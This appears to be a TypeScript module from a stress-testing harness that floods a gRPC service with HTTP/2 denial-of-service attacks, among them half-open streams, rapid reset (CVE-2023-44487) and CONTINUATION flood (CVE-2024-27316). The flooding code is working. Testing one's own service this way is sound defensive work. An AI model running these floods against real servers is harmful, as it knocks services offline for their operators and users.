import { type Attack, keep, type Target } from '../attack.js';
import { callHeaders, FLAGS, frame, headerFrames, RawConnection, TYPES } from '../raw-http2.js';

const NEXT = '/seqsvr.v1.SeqService/Next';
const EXCHANGE = '/seqsvr.v1.SeqService/Exchange';
const HALF_OPEN_STREAMS = 20_000;
/** As many as a server lets one connection have. */
const STREAMS_OF_ONE = 256;
const FLOODING_CONNECTIONS = 8;
const BURST = 100;
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** Attacks by calls that are no calls: their headers, their beginnings, their ends. */
export const STREAM_ATTACKS: readonly Attack[] = [
  {
    name: 'half-open-streams',
    what: '20,000 calls whose headers come, and nothing after them',
    run: (target) => keep(Math.ceil(HALF_OPEN_STREAMS / STREAMS_OF_ONE), () => openStreams(target, callHeaders(NEXT), Buffer.alloc(0))),
  },
  {
    name: 'half-messages',
    what: '20,000 streams with a message of 4 MiB of which 200 bytes come',
    run: (target) => keep(Math.ceil(HALF_OPEN_STREAMS / STREAMS_OF_ONE), () => openStreams(target, callHeaders(EXCHANGE), halfMessage(200))),
  },
  {
    name: 'rapid-reset',
    what: 'calls that are taken back in the same breath (CVE-2023-44487)',
    run: (target) =>
      keep(FLOODING_CONNECTIONS, async () => {
        const connection = await RawConnection.greet(target);
        if (connection === undefined) return;
        for (let stream = 1; await connection.send(resets(stream)); stream += 2 * BURST) target.note('streams', BURST);
      }),
  },
  {
    name: 'continuation-flood',
    what: 'headers that never end (CVE-2024-27316)',
    run: (target) =>
      keep(FLOODING_CONNECTIONS, async () => {
        const connection = await RawConnection.greet(target);
        if (connection === undefined) return;
        await connection.send(frame({ type: TYPES.headers, stream: 1, payload: callHeaders(NEXT) }));
        const more = frame({ type: TYPES.continuation, stream: 1, payload: callHeaders(NEXT, [['x-more', 'm'.repeat(16_000)]]) });
        while (await connection.send(more)) target.note('frames');
      }),
  },
  {
    name: 'large-headers',
    what: 'calls with 60 KiB of metadata, as many as are let in',
    run: (target) => keep(FLOODING_CONNECTIONS, () => openLargeCalls(target)),
  },
];

/** A message of 4 MiB, so the prefix says; `count` bytes of it. */
function halfMessage(count: number): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(4 * 1024 * 1024, 1);
  return Buffer.concat([prefix, Buffer.alloc(count)]);
}

async function openStreams(target: Target, headers: Buffer, data: Buffer): Promise<void> {
  const connection = await RawConnection.greet(target);
  if (connection === undefined) return;
  const opening = (stream: number): Buffer => {
    const head = frame({ type: TYPES.headers, flags: FLAGS.endHeaders, stream, payload: headers });
    return data.length === 0 ? head : Buffer.concat([head, frame({ type: TYPES.data, stream, payload: data })]);
  };
  for (let at = 0; at < STREAMS_OF_ONE && (await connection.send(opening(1 + 2 * at))); at += 1) target.note('streams');
  await connection.over;
}

function resets(firstStream: number): Buffer {
  const payload = callHeaders(NEXT);
  return Buffer.concat(
    Array.from({ length: BURST }, (_, at) => firstStream + 2 * at).flatMap((stream) => [
      frame({ type: TYPES.headers, flags: FLAGS.endHeaders, stream, payload }),
      frame({ type: TYPES.rstStream, stream, payload: CANCEL }),
    ]),
  );
}

/** 60 KiB in one block: a HEADERS frame and what is left in CONTINUATION frames. */
async function openLargeCalls(target: Target): Promise<void> {
  const block = callHeaders(
    NEXT,
    Array.from({ length: 60 }, (_, at) => [`x-more-${at}`, 'm'.repeat(1_000)] as const),
  );
  const connection = await RawConnection.greet(target);
  if (connection === undefined) return;
  for (let stream = 1; await connection.send(headerFrames(block, stream)); stream += 2) target.note('streams');
}
